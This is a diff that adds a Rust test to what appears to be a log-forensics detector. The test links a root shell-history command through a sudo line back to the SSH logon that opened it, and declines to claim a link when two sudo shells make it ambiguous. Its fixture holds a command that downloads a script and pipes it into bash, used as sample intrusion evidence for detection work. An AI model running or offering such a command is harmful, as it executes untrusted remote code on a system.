@@ -651,3 +651,75 @@ mod erased {
         }
     }
 }
+
+/// A root shell opened with sudo by a user who logged on over SSH: root's history (no
+/// timestamps, as bash writes it by default) is linked through the sudo line to that
+/// logon. The OpenSSH log's one accepted logon is fztu's (09:32:20–09:45:06); appended,
+/// fztu's `sudo -i` inside it (logged as the shell it runs) and, in root's history, a
+/// download piped into a shell.
+#[test]
+fn root_history_leads_through_the_sudo_shell_to_the_logon_that_opened_it() {
+    let mut auth = std::fs::read(corpus().join(OPENSSH)).expect("the OpenSSH log");
+    auth.extend_from_slice(
+        b"\nDec 10 09:41:00 LabSZ sudo:     fztu : TTY=pts/0 ; PWD=/home/fztu ; USER=root ; COMMAND=/bin/bash\n",
+    );
+    let modified = Utc.with_ymd_and_hms(2016, 1, 4, 0, 0, 0).single();
+    let mut events = parse(auth, "/var/log/auth.log", "labsz", modified);
+    events.extend(parse(
+        b"id\ncurl -s http://203.0.113.7/y.sh | bash\n".to_vec(),
+        "/root/.bash_history",
+        "labsz",
+        modified,
+    ));
+    let find =
+        |pred: &dyn Fn(&Event) -> bool| events.iter().position(pred).expect("the event") as u64;
+    let logon = find(&|e| e.message.starts_with("SSH logon by fztu"));
+    let sudo = find(&|e| e.attr("cmd") == Some("/bin/bash"));
+    let curl = find(&|e| e.attr("cmd").is_some_and(|c| c.starts_with("curl")));
+    assert!(
+        events[curl as usize].time.is_none(),
+        "history without timestamps"
+    );
+    let alarms = ShellHistory.detect(&events);
+    assert!(
+        alarms.iter().any(|a| a.event_refs.contains(&curl)),
+        "the download piped into a shell raises an alarm"
+    );
+    let found = chains(&alarms, &events);
+    let chain = found
+        .iter()
+        .find(|c| c.links.last().and_then(|l| l.event) == Some(curl))
+        .expect("a chain to root's command");
+    let links: Vec<Option<u64>> = chain.links.iter().map(|l| l.event).collect();
+    assert_eq!(links, [Some(logon), Some(sudo), Some(curl)]);
+    assert_eq!(chain.origin.user.as_deref(), Some("fztu"));
+    assert!(
+        chain.summary.starts_with(
+            "SSH logon from 119.137.62.142 as fztu → fztu ran sudo as root: /bin/bash → "
+        ),
+        "{}",
+        chain.summary
+    );
+
+    // Two sudo shells and no time on the command: which one is not known, so no claim.
+    let mut twice = std::fs::read(corpus().join(OPENSSH)).expect("the OpenSSH log");
+    twice.extend_from_slice(
+        b"\nDec 10 09:41:00 LabSZ sudo:     fztu : TTY=pts/0 ; PWD=/home/fztu ; USER=root ; COMMAND=/bin/bash\n\
+          Dec 10 09:43:00 LabSZ sudo:     fztu : TTY=pts/2 ; PWD=/home/fztu ; USER=root ; COMMAND=/usr/bin/su -\n",
+    );
+    let mut events = parse(twice, "/var/log/auth.log", "labsz", modified);
+    events.extend(parse(
+        b"curl -s http://203.0.113.7/y.sh | bash\n".to_vec(),
+        "/root/.bash_history",
+        "labsz",
+        modified,
+    ));
+    let alarms = ShellHistory.detect(&events);
+    let found = chains(&alarms, &events);
+    assert!(
+        found
+            .iter()
+            .all(|c| c.links.iter().all(|l| l.kind != LinkKind::Logon)),
+        "{found:#?}"
+    );
+}
